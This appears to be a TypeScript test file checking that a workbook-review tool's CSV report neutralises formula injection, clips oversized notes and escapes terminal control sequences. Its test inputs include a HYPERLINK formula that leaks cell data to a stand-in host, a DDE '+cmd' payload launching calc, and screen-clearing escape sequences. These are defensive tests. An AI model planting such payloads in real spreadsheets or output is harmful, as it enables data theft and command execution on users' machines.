/**
 * Outputs made from a workbook's text (seventh round of hostile input): what a cell, a sheet name
 * or a project name holds must not become a formula in a report, nor swell a note past what Excel
 * keeps. A project named `=HYPERLINK(...)`, a sheet named `+cmd`, a cell `@SUM(1)` or `-2+3`
 * reach the CSV report's sheet, table and suggestion columns; each field is guarded with a leading
 * `'` (src/core/review/csv.ts). The annotated copy's note quotes a 30,000-character suggestion
 * clipped, as the message quotes are.
 */
import { checkSheet } from '../../src/core/engine';
import type { CellValue } from '../../src/core/engine/grid';
import { emptyIgnoreList } from '../../src/core/review/ignore';
import { reviewCsv } from '../../src/core/review/review-report';
import { parseCsv } from '../../src/core/review/csv';
import { noteText } from '../../src/hosts/file/annotate';

function table(project: string, level3: string, value: string): CellValue[][] {
  return [
    ['项目名称', project],
    ['预算数', '26.50', '其中：财政资金', '26.50', '其他资金', ''],
    ['绩效目标', '1.完成任务'],
    ['一级指标', '二级指标', '三级指标', '绩效指标描述', '指标值'],
    ['产出指标', '数量指标', level3, '办案数', value],
    [null, '质量指标', '合格率', '合格率', '≥98%'],
    [null, '时效指标', '及时率', '及时率', '≤30天'],
    [null, '成本指标', '总成本', '总成本', '≤26.5万元'],
    ['效益指标', '社会效益指标', '提升', '提升', '有效提升'],
    ['满意度指标', '服务对象满意度指标', '满意度', '满意度', '≥95%'],
  ];
}

const FORMULA = /^[=+\-@\t\r]/;

test.each<[string, string, string, string]>([
  ['=HYPERLINK', '=HYPERLINK("http://example.invalid/?"&A1,"点我")', ' =1+1 ', '100%'],
  ['+cmd', '+cmd|\' /C calc\'!A0', '@SUM(1)  ', '98%'],
  ['@SUM', '@SUM(1,2)', '-2+3 ', '2O次'],
  ['-2+3', '-2+3', '\t=1', '≥≥90%'],
])('a sheet named %s and formula-like cells: no CSV field starts a formula', (sheet, project, level3, value) => {
  const result = checkSheet({ name: sheet, values: table(project, level3, value) });
  const csv = reviewCsv([result], emptyIgnoreList());
  const rows = parseCsv(csv);
  expect(rows.length).toBeGreaterThan(1);
  // The formula-like texts are there, each behind a quote mark.
  expect(csv).toContain(`'${sheet}`);
  for (const row of rows) for (const field of row) expect(field).not.toMatch(FORMULA);
});

test("the annotated copy's note clips a long suggestion; the message quotes are clipped where made", () => {
  const result = checkSheet({ name: 'S', values: table('项目', '办案数', `≥≥${'9'.repeat(30_000)}`) });
  const findings = result.tables[0].findings.filter((f) => f.cell === 'E5');
  expect(findings.some((f) => (f.suggestion ?? '').length > 30_000)).toBe(true);
  const note = noteText(findings);
  expect(note.length).toBeLessThan(2_000);
  expect(note).toContain('…');
});

test('--debug prints an error stack line by line with escape sequences written out', async () => {
  const { debugDetail } = await import('../../src/cli/safe-text');
  const err = new Error('Invalid Address: \u001b]0;pwned\u0007\u001b[2J\u202e');
  const text = debugDetail(err);
  expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
  expect(text).toContain('Invalid Address: \\x1B]0;pwned\\x07\\x1B[2J\\u202E');
  expect(text.split('\n').length).toBeGreaterThan(1); // still one frame a line
});

test("the review report's table column clips a project name of 32,767 characters (with its range it passed Excel's cell limit)", async () => {
  const { reviewRows } = await import('../../src/core/review/review-report');
  const result = checkSheet({ name: 'S', values: table('项'.repeat(32_767), '办案数', '100%') });
  const rows = reviewRows([result], emptyIgnoreList());
  expect(rows.length).toBeGreaterThan(0);
  for (const r of rows) {
    expect(r.table.length).toBeLessThan(200);
    for (const v of Object.values(r)) if (typeof v === 'string') expect(v.length).toBeLessThanOrEqual(32_767);
  }
});
